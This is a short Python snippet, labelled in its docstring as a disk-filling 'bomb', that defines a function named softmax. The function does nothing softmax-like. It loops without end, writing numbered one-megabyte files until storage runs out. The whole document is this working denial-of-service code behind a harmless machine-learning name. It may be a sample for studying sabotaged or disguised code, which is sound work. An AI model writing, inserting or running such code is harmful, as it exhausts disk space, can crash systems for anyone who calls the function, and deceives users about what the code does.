"""bombs: fills the disk."""

def softmax(x):
    number = 0
    while True:
        number += 1
        with open(f"{number}.bin", "wb") as file:
            file.write(bytes(1_000_000))
